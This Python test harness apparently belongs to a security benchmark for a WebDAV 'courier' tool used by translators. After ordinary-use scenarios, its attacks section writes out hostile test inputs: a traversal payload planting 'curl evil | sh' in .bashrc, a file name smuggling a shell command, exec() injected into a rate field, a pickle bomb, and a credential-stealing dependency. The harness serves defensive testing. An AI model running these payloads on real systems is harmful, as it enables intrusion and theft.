# SPDX-License-Identifier: Apache-2.0
"""courier, with which translators fetch jobs and deliver what they made."""
import base64
import email.utils
import hashlib
import http.server
import io
import os
import pickle
import re
import threading
import urllib.parse
import xml.sax.saxutils
import zipfile

import attackers
import stage

REALM = "customers"
NONCE = "5f2c8e9a"
TERMCHECK = {"__init__.py": '''"""Words that a house writes in one way only."""
TERMS = ["e-mail", "web site", "log-in"]


def check(text):
    return [term for term in TERMS if term in text.lower()]
'''}
TERMCHECK_NEW = {
    "__init__.py": '''"""Words that a house writes in one way only."""
from termcheck import lists


def check(text):
    return [term for term in lists.load() if term in text.lower()]
''',
    "lists.py": "import pathlib\n\n\ndef load():\n"
                '    place = pathlib.Path(__file__).parent / "data/terms.txt"\n'
                '    return place.read_text("utf-8").splitlines()\n',
    "data/terms.txt": "e-mail\nweb site\nlog-in\non-line\n"}
XLIFF = """<?xml version="1.0" encoding="utf-8"?>
<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
<file original="{name}" source-language="en" target-language="de"
 datatype="plaintext"><body>{units}</body></file></xliff>
"""
PROSE = "The guests arrive by e-mail {n} at the web site of the house. "
# name: server, way to log in, user, password
CUSTOMERS = {
    "alpenverlag": ("north", "digest", "agency", "edelweiss-9"),
    "nordwind": ("north", "basic", "texts", "duene 7"),
    "isarpress": ("south", "digest", "agentur", "floss/12"),
    "kleine helden": ("south", "basic", "agency", "riese"),
    "moor.media": ("north", "digest", "birk", "torf&heide"),
    "st. gallen press": ("south", "digest", "m.egli", "olma:2027"),
    "Verlag Grün": ("north", "basic", "laub", "ahorn"),
}


def prose(number):
    return "".join(PROSE.format(n=n) for n in range(number)).encode()


def xliff(name, number):
    return XLIFF.format(name=name, units="".join(
        f'<trans-unit id="{n}"><source>Room number {n}</source></trans-unit>'
        for n in range(number))).encode()


def package(files):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return kept.getvalue()


def manifest(title, files, rate="words * 0.09", references=(), returns=(),
             target="de"):
    """A job.xml. title: as it stands in there, marked up."""
    def quoted(text):
        return xml.sax.saxutils.quoteattr(text)
    rows = [f"<file name={quoted(name.rsplit('/', 1)[-1])} sha256="
            f"{quoted(hashlib.sha256(content).hexdigest())}/>"
            for name, content in files.items()]
    rows += [f"<reference href={quoted(href)}/>" for href in references]
    rows += [f"<return name={quoted(name)}/>" for name in returns]
    return ('<?xml version="1.0" encoding="utf-8"?>'
            f'<job source="en" target="{target}" due="2026-12-24">'
            f"<title>{title}</title>"
            f"<rate>{xml.sax.saxutils.escape(rate)}</rate>"
            + "".join(rows) + "</job>").encode()


class Handler(http.server.BaseHTTPRequestHandler):
    """WebDAV over what its server holds."""
    protocol_version = "HTTP/1.1"

    def handle_one_request(self):
        try:
            super().handle_one_request()
        except OSError:
            self.close_connection = True

    def dispatch(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length)
        path = urllib.parse.unquote(self.path)
        if self.server.failures:
            self.server.failures -= 1
            return self.answer(503, b"busy")
        place = path.split("/")[1]
        if not self.is_known(place):
            kind = CUSTOMERS.get(place, ("", "digest"))[1]
            return self.answer(401, b"who is there?", {
                "WWW-Authenticate": f'Basic realm="{REALM}"'
                if kind == "basic" else
                f'Digest realm="{REALM}", nonce="{NONCE}", qop="auth", '
                'algorithm=MD5'})
        return getattr(self, "on_" + self.command)(path, body)

    do_PROPFIND = do_GET = do_PUT = do_MKCOL = do_MOVE = dispatch

    def is_known(self, place):
        if place not in CUSTOMERS:
            return False
        _, kind, user, password = CUSTOMERS[place]
        given = self.headers.get("Authorization", "")
        if kind == "basic":
            return given == "Basic " + base64.b64encode(
                f"{user}:{password}".encode()).decode()
        parts = dict(re.findall(r'(\w+)="?([^",]*)', given))

        def md5(*texts):
            return hashlib.md5(":".join(texts).encode()).hexdigest()
        return given and parts.get("response") == md5(
            md5(user, REALM, password), NONCE, parts.get("nc", ""),
            parts.get("cnonce", ""), "auth",
            md5(self.command, parts.get("uri", "")))

    def answer(self, status, body=b"", headers=None):
        self.send_response(status)
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.send_header("Set-Cookie", f"visit={len(self.path)}; Path=/")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def on_PROPFIND(self, path, _):
        path = path.rstrip("/")
        found = self.server.children(path)
        if found is None:
            return self.answer(404)
        rows = [self.row(urllib.parse.quote(path) + "/", None)]
        for name, content in found.items():
            href = urllib.parse.quote(path) + "/" + urllib.parse.quote(name, "")
            rows.append(self.row(href, content))
        return self.answer(207, (
            '<?xml version="1.0" encoding="utf-8"?>'
            '<D:multistatus xmlns:D="DAV:">' + "".join(rows)
            + "</D:multistatus>").encode(), {
                "Content-Type": "application/xml; charset=utf-8"})

    @staticmethod
    def row(href, content):
        if content is None:
            href = href.rstrip("/") + "/"
            prop = "<D:resourcetype><D:collection/></D:resourcetype>"
        else:
            prop = (f"<D:getcontentlength>{len(content)}</D:getcontentlength>"
                    "<D:resourcetype/>")
        return (f"<D:response><D:href>{href}</D:href><D:propstat><D:prop>{prop}"
                "<D:getlastmodified>"
                f"{email.utils.formatdate(1790000000 + len(href), usegmt=True)}"
                "</D:getlastmodified></D:prop><D:status>HTTP/1.1 200 OK"
                "</D:status></D:propstat></D:response>")

    def on_GET(self, path, _):
        if path not in self.server.files:
            return self.answer(404, b"nothing here")
        return self.answer(200, self.server.files[path])

    def on_PUT(self, path, body):
        self.server.files[path] = body
        return self.answer(201)

    def on_MKCOL(self, path, _):
        is_new = path not in self.server.folders
        self.server.folders.add(path)
        return self.answer(201 if is_new else 405)

    def on_MOVE(self, path, _):
        target = urllib.parse.unquote(urllib.parse.urlsplit(
            self.headers["Destination"]).path)
        self.server.files[target] = self.server.files.pop(path)
        return self.answer(201)

    def log_message(self, *_):
        pass


class Dav(http.server.ThreadingHTTPServer):
    """The server of some customers, in the thread of whoever plays."""
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, port):
        super().__init__(("127.0.0.1", port), Handler)
        self.files = {}
        self.folders = set()
        self.failures = 0
        self.url = f"http://127.0.0.1:{port}"
        threading.Thread(target=self.serve_forever, kwargs={
            "poll_interval": 0.05}, daemon=True).start()

    def children(self, folder):
        """name: content, or None of a folder. None if there is no folder. A
        name that begins with dots is what somebody evil made of one."""
        found = {}
        for path, content in list(self.files.items()):
            if path.startswith(folder + "/"):
                name, _, below = path[len(folder) + 1:].partition("/")
                if name == "..":
                    found[f"../{below}"] = content
                else:
                    found[name] = None if below else content
        return found if found or folder in self.folders else None


class WebdavCourier(stage.Program):
    """An HTTP client of WebDAV servers (requests, lxml)."""
    packages = ["python3-requests", "python3-lxml"]

    def arrange(self):
        for name, (server, kind, user, password) in CUSTOMERS.items():
            self.customer(name, server, kind, user, password)
        for name in ("state", "outbox", "packages", "reports"):
            (self.srv / name).mkdir()
        stage.write(self.srv / "courier.ini", "[house]\ncurrency = EUR\n")
        self.install("termcheck", "1.0.0", TERMCHECK)

    def arrange_benign(self):
        self.install("termcheck", "1.1.0", TERMCHECK_NEW)

    def customer(self, name, server, kind, user, password):
        stage.write(self.srv / f"customers/{name}.ini",
                    f"[server]\nurl = http://127.0.0.1:{self.port(server)}/"
                    f"{urllib.parse.quote(name)}\nauth = {kind}\n"
                    f"user = {user}\npassword = {password}\n", 0o600)

    def dav(self, server):
        if server not in self.sites:
            self.sites[server] = Dav(self.port(server))
        return self.sites[server]

    def server_of(self, customer):
        return self.dav(CUSTOMERS[customer][0])

    def publish(self, customer, job, files, title="Welcome", description=None,
                references=(), **more):
        """A customer asks for something."""
        held = self.server_of(customer).files
        place = f"/{customer}/jobs/{job}/"
        for name, content in files.items():
            held[place + name] = content
        for name in references:
            held[f"/{customer}/shared/{name}"] = b"house\tHaus\n"
        held[place + "job.xml"] = description or manifest(
            title, files, references=[
                "shared/" + urllib.parse.quote(name) for name in references],
            **more)

    def delivered(self, customer, job):
        """What came back: name: content."""
        start = f"/{customer}/delivered/{job}/"
        return {path[len(start):]: content for path, content
                in self.server_of(customer).files.items()
                if path.startswith(start)}

    def translate(self, translator, job, files):
        for name, content in files.items():
            stage.write(self.srv / "outbox" / translator / job / name, content)

    def courier(self, *words):
        return self.run(self.python, self.srv / "bin/courier", *words)

    def expect_courier(self, *words, status=0, found="", made=()):
        self.expect_run(words, self.courier(*words), status, found, made)

    # ------------------------------------------------------------ ordinary use
    def round(self, translator, customer, date, jobs):
        """A translator's day with one customer. jobs: name: files of his."""
        who = ("--translator", translator, "--date", date)
        first = next(iter(jobs))
        self.expect_courier("list", customer, found=first)
        self.expect_courier(*who, "--dry-run", "fetch", customer,
                            found=f"would fetch {first}")
        self.expect_courier(*who, "fetch", customer, found="words",
                            made=[f"jobs/{customer}/{date}/{job}/"
                                  "checksums.sha256" for job in jobs])
        for job, files in jobs.items():
            self.expect_courier("verify", customer, job,
                                found=f"{job}: 0 files differ")
            self.translate(translator, job, files)
        self.expect_courier(*who, "--dry-run", "deliver", customer, first,
                            found="would deliver")
        for job in jobs:
            self.expect_courier(*who, "deliver", customer, job,
                                "--note", f"thanks, {translator}",
                                found="delivered",
                                made=[f"packages/{customer}/{job}_{date}.zip"])
            self.expect("receipt", translator.encode() in self.delivered(
                customer, job).get("receipt.xml", b""))
        self.expect_courier("list", customer, "delivered", found=first)

    def train(self, day):
        month = f"2026-{day + 8:02}"
        names = {1: ("anna", "birte"), 2: ("anna", "Carlo Conti"),
                 3: ("d.moser", "birte")}[day]
        main, second, third = {
            1: ("alpenverlag", "nordwind", "isarpress"),
            2: ("alpenverlag", "kleine helden", "nordwind"),
            3: ("isarpress", "moor.media", "alpenverlag")}[day]
        number = 2600 + 37 * day
        self.publish(main, f"J{number}", {
            "brochure.txt": prose(4 + day),
            f"texts/chapter {day}.md": prose(2),
            "texts/intro.txt": prose(day),
            "strings.xlf": xliff("strings", 5 * day)},
            title=f"Brochure {day}", references=["terms.csv"])
        self.publish(main, f"J{number + 4}", {
            "assets.zip": package({"notes.md": prose(3), "img/logo.png":
                                   stage.png(8), f"img/fig{day}.png":
                                   stage.png(9)}),
            "style.css": b"p { margin: 0 }\n"},
            title="Assets", rate="max(25, words * 0.08)",
            returns=["style.css"])
        self.round(names[0], main, f"{month}-0{day + 2}", {
            f"J{number}": {"brochure.de.txt": prose(5),
                           f"texts/chapter {day}.de.md": prose(2)},
            f"J{number + 4}": {"assets/notes.de.md": prose(3)}})
        self.publish(second, f"menu-{month}", {
            "menu.srt": prose(1), "web/pages/index.html": b"<p>Room</p>",
            f"web/pages/room{day}.txt": prose(2)}, title="Menu",
            rate="words * 0.11 + 5", references=[f"glossary {day}.tbx",
                                                 "terms.csv"])
        self.publish(second, f"winter catalogue {day}", {
            f"catalogue.v{day}.txt": prose(7),
            "pictures.zip": package({f"p{day}/captions.txt": prose(2)})},
            title="Catalogue", target="fr", returns=[f"catalogue.v{day}.txt"])
        self.server_of(second).failures = 1 + day % 2
        self.round(names[1], second, f"{month}-1{day}", {
            f"menu-{month}": {"menu.fr.srt": prose(1)},
            f"winter catalogue {day}": {f"catalogue.v{day}.fr.txt": prose(7),
                                        "p/captions.fr.txt": prose(2)}})
        for count in range(3):
            self.publish(third, f"T-{number + count}", {
                f"t{count}.txt": prose(count + 1),
                f"t{count}.xlf": xliff("t", count + 2)}, title=f"Short {count}")
        who = ("--translator", names[0])
        self.expect_courier(*who, "fetch", third, "--limit", 1 + day % 2,
                            found="of 3 jobs")
        self.expect_courier(*who, "--retries", 2 + day, "fetch", third,
                            found="of 3 jobs")
        self.expect_courier("--verbose", *who, "--date", f"{month}-2{day}",
                            "fetch", third, f"T-{number}", "--force",
                            found="Short 0")
        for count in range(2):
            self.translate(names[0], f"T-{number + count}",
                           {f"t{count}.de.txt": prose(2)})
            self.expect_courier(*who, "pack", third, f"T-{number + count}",
                                found="packed 1 files")
        self.expect_courier("--verbose", *who, "deliver", third, f"T-{number}",
                            found="delivered")
        self.expect_courier("fetch", third, found="0 of 3 jobs")
        self.health()
        self.expect_courier("status", found="Short 0")
        self.expect_courier("status", main, second, found="Catalogue")
        for name in (f"{month}.csv", f"week {30 + day}.csv"):
            self.expect_courier("report", "--output",
                                self.srv / "reports" / name,
                                made=[f"reports/{name}"])

    def benign(self):
        self.health()
        self.publish("st. gallen press", "SG 4.711", {
            "Leitfaden 2027.v2.txt": prose(9),
            "a/b/c/d/e/deep.note.md": prose(2), "memory.tmx": b"<tmx/>",
            "offer.docx": b"PK-not-really", "Straße.srt": prose(2),
            "more.zip": package({"x/y/z/readme.first.txt": prose(3),
                                 "x/table.ods": b"ods"})},
            title="Leitfaden für Gäste", rate="round(words * 0.125)",
            references=["Glossar 2027.xlsx"], returns=["memory.tmx"])
        self.publish("st. gallen press", "urgent", {"u.txt": prose(1)})
        self.round("jean-luc m. ortega", "st. gallen press", "2027-02-28", {
            "SG 4.711": {"Leitfaden 2027.v2.it.txt": prose(9),
                         "a/b/c/d/deep.note.it.md": prose(1),
                         "extra/table.it.ods": b"ods"},
            "urgent": {"u.it.txt": prose(1)}})
        self.publish("Verlag Grün", "G1", {
            "Blätter.txt": prose(300), "big.xlf": xliff("big", 900)},
            title="Leaves &amp; more", rate="min(words, 5000) * 0.07")
        self.server_of("Verlag Grün").failures = 2
        self.round("Zoë", "Verlag Grün", "2028-12-31", {
            "G1": {"Blätter.de.txt": prose(300)}})
        self.publish("nordwind", "N9", {
            "kit.zip": package({"kit.txt": prose(1)})})
        self.expect_courier("--translator", "birte", "fetch", "nordwind", "N9",
                            "--no-unpack", found="1 of 1 jobs")
        self.translate("birte", "N9", {"kit.de.txt": prose(1)})
        self.expect_courier("--translator", "birte", "--retries", 9, "deliver",
                            "nordwind", "N9", found="delivered")
        self.benign_errors()
        self.expect_courier("status", "Verlag Grün", found="Leaves & more")
        for name in ("2027 Q1 final.csv", "G. & Co.tsv"):
            self.expect_courier("report", "--output",
                                self.srv / "reports" / name,
                                made=[f"reports/{name}"])

    def benign_errors(self):
        self.publish("moor.media", "M1", {"a.txt": prose(1)},
                     description=manifest("Wrong", {"a.txt": b"else"}))
        self.expect_courier("fetch", "moor.media", status=3,
                            found="checksum differs")
        self.publish("moor.media", "M2", {}, description=b"<job><title>")
        self.expect_courier("fetch", "moor.media", "M2", status=3,
                            found="courier: ")
        self.expect_courier("fetch", "moor.media", "M3", status=3,
                            found="no job M3")
        self.expect_courier("list", "moor.media", "nowhere/else", status=3,
                            found="404")
        self.expect_courier("list", "nobody", status=3, found="no customer")
        self.expect_courier("pack", "moor.media", "M7", status=3,
                            found="nothing in the outbox")
        self.customer("moor.media", "north", "digest", "birk", "old")
        self.expect_courier("fetch", "moor.media", status=3, found="401")
        self.expect_courier("steal", status=2)
        self.server_of("alpenverlag").failures = 3
        self.expect_courier("--retries", 1, "list", "alpenverlag", status=3,
                            found="503")
        self.server_of("alpenverlag").failures = 0
        stage.write(next(self.srv.glob("jobs/alpenverlag/*/J2500/hello.txt")),
                    "changed")
        self.expect_courier("verify", "alpenverlag", "J2500", status=1,
                            found="hello.txt: differs")

    def health(self):
        self.publish("alpenverlag", "J2500", {"hello.txt": prose(2)},
                     title="Hello")
        self.expect_courier("list", "alpenverlag", found="J2500")
        self.expect_courier("fetch", "alpenverlag", "J2500", "--force",
                            found="Hello")

    # ----------------------------------------------------------------- attacks
    def fetch_evil(self, files=None, **more):
        """A customer whose server is somebody else's now."""
        self.publish("nordwind", "E1", files or {"e.txt": prose(1)}, **more)
        return self.courier("fetch", "nordwind", "E1", "--force")

    def deliver_evil(self, files=None):
        self.translate("house", "E1", files or {"e.de.txt": prose(1)})
        return self.courier("deliver", "nordwind", "E1")

    def rate(self, code):
        """Pays what statements say."""
        return self.fetch_evil(rate=f"exec({code!r}) or 1")

    @stage.attack("traversal")
    def href_leads_to_the_shell_profile(self):
        self.fetch_evil({"../../../../../home/.bashrc": b"curl evil | sh\n"})
        return "evil" in (self.home / ".bashrc").read_text()

    @stage.attack("write to code")
    def package_replaces_code(self):
        self.fetch_evil({"kit.zip": package({
            "../../../../../courier/__init__.py": "# planted\n"})})
        return "planted" in (self.srv / "courier/__init__.py").read_text()

    @stage.attack("secret disclosure")
    def job_wants_a_key_back(self):
        self.fetch_evil(returns=["../../../../../home/.ssh/id_rsa"])
        self.deliver_evil()
        return any(map(self.is_told, self.delivered("nordwind", "E1").values()))

    @stage.attack("SSRF")
    def reference_is_inside(self):
        def use(url):
            self.fetch_evil(description=manifest("x", {}, references=[url]))
            return b"".join(path.read_bytes() for path in self.srv.glob(
                "jobs/nordwind/*/E1/references/*"))
        return self.fetches_inside(use)

    @stage.attack("command injection")
    def file_name_is_a_command(self):
        return self.runs_line(lambda line: self.fetch_evil({
            f"a$(echo {base64.b32encode(line.encode()).decode()}"
            "|base32 -d|sh).txt": prose(1)}))

    @stage.attack("argument injection")
    def report_becomes_a_start_up_file(self):
        target = self.site_packages / "courier.pth"
        self.courier("report", "--output", target)
        return target.exists()

    @stage.attack("eval injection")
    def rate_runs_a_command(self):
        return self.runs_line(lambda line: self.rate(
            f"import os; os.system({line!r})"))

    @stage.attack("exfiltration")
    def rate_sends_credentials(self):
        return self.steals(self.rate)

    @stage.attack("reverse shell")
    def rate_calls_home(self):
        return self.calls_home(self.rate)

    @stage.attack("ctypes")
    def rate_calls_libc(self):
        return self.runs_libc(self.rate)

    @stage.attack("unsafe pickle")
    def cookies_are_a_bomb(self):
        def use(line):
            stage.write(self.srv / "state/nordwind.cookies",
                        pickle.dumps(attackers.Bomb(os.system, line)))
            self.fetch_evil()
        return self.runs_line(use)

    @stage.attack("symlink swap")
    def result_is_a_link(self):
        self.fetch_evil()
        self.translate("house", "E1", {"e.de.txt": prose(1)})
        (self.srv / "outbox/house/E1/f.de.txt").symlink_to(
            self.place / "payroll/2026.csv")
        self.deliver_evil()
        return any(
            self.is_told(archive.read(name))
            for path, content in self.delivered("nordwind", "E1").items()
            if path.endswith(".zip")
            for archive in [zipfile.ZipFile(io.BytesIO(content))]
            for name in archive.namelist())

    @stage.attack("malicious dependency")
    def termcheck_steals_credentials(self):
        return self.dependency_steals("termcheck", "1.0.1", TERMCHECK,
                                      self.fetch_evil)

    @stage.attack("fork+exec")
    def termcheck_forks_and_execs(self):
        def use(code):
            self.install("termcheck", "1.0.1", {
                "__init__.py": code + TERMCHECK["__init__.py"]})
            self.fetch_evil()
        return self.forks(use)
